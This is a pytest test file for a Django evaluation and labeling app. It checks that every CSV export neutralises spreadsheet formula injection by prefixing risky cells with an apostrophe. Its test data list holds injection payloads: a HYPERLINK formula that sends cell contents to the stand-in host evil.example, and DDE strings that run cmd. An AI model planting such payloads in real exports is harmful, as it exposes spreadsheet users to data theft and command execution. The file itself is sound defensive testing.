"""Issue 11, item 6: no CSV export carries a cell a spreadsheet would run as a formula. Policy and
labeler names and summaries that start with =, +, -, @, tab or CR are written with a leading
apostrophe (OWASP) in every dashboard CSV and in `export_preferences --format csv`."""
from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from evaluation import services
from evaluation.selectors import Filters
from labeling.formats import CSV_FORMULA_START, SafeDictWriter, csv_safe
from labeling.models import LabelerConfig, Summary
from tests.evaluation.conftest import _empty_django_cache, small_world  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", EVIL)
def test_formula_cells_get_an_apostrophe(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", " =x", "", -3, -0.5, 2.0, None, "'already"])
def test_other_cells_are_left_alone(value):
    assert csv_safe(value) == value


def test_safe_writer_covers_writerow_and_writerows():
    buf = io.StringIO()
    w = SafeDictWriter(buf, fieldnames=["x", "n"])
    w.writeheader()
    w.writerow({"x": EVIL[0], "n": -1})
    w.writerows([{"x": EVIL[1], "n": -2.5}])
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["x"] for r in rows] == ["'" + EVIL[0], "'" + EVIL[1]] and [r["n"] for r in rows] == ["-1", "-2.5"]


def _assert_no_formula(text: str) -> int:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    bad = [c for c in cells if c.startswith(CSV_FORMULA_START) and not _is_number(c)]
    assert bad == []
    return len(cells)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture
def poisoned(small_world):
    """The evaluation tests' small world with formula-like policy, labeler and summary texts."""
    small_world["rl"].name, small_world["sft"].name = EVIL[0], EVIL[3]
    small_world["rl"].save()
    small_world["sft"].save()
    LabelerConfig.objects.filter(pk=small_world["good"].pk).update(name=EVIL[1])
    for i, s in enumerate(Summary.objects.filter(policy=small_world["rl"])):
        s.text = EVIL[i % len(EVIL)] + f" {i}"
        s.save()
    services.refresh_dashboard(filters=Filters(), rounds=20)
    return small_world


@pytest.mark.parametrize("page,table", [("alignment", "alignment"), ("alignment", "paper_table2"),
                                        ("winrates", "winrates"), ("winrates", "winrates_by_judge"),
                                        ("leaderboard", "leaderboard"), ("annotators", "annotators"),
                                        ("annotators", "agreement")])
def test_dashboard_csv_exports_are_neutralized(client, staff_user, poisoned, page, table):
    client.force_login(staff_user)
    r = client.get(reverse("evaluation:export", args=[page, table, "csv"]))
    assert r.status_code == 200
    assert _assert_no_formula(r.content.decode()) > 0


def test_winrate_export_still_names_the_policies(client, staff_user, poisoned):
    client.force_login(staff_user)
    text = client.get(reverse("evaluation:export", args=["winrates", "winrates", "csv"])).content.decode()
    assert {r["policy"] for r in csv.DictReader(io.StringIO(text))} == {"'" + EVIL[0], "'" + EVIL[3]}


def test_export_preferences_csv_is_neutralized(tmp_path, poisoned):
    out = tmp_path / "prefs.csv"
    call_command("export_preferences", "--format", "csv", "--dataset", "small", str(out))
    text = out.read_text(encoding="utf-8")
    assert _assert_no_formula(text) > 0
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["policy_a"] for r in rows} | {r["policy_b"] for r in rows} == {"'" + EVIL[0], "'" + EVIL[3]}
    ai = tmp_path / "ai.csv"
    call_command("export_preferences", "--format", "csv", "--source", "ai", "--dataset", "small", str(ai))
    assert {r["annotator"] for r in csv.DictReader(io.StringIO(ai.read_text()))} >= {"'" + EVIL[1]}


def test_every_csv_writer_of_the_apps_is_the_safe_one():
    """A new export must not write CSV around `SafeDictWriter` (formats.py is where it is defined)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    offenders = [str(p.relative_to(root)) for app in ("labeling", "evaluation", "training", "rlaif_site")
                 for p in (root / app).rglob("*.py")
                 if p.name != "formats.py" and ("csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text())]
    assert offenders == []
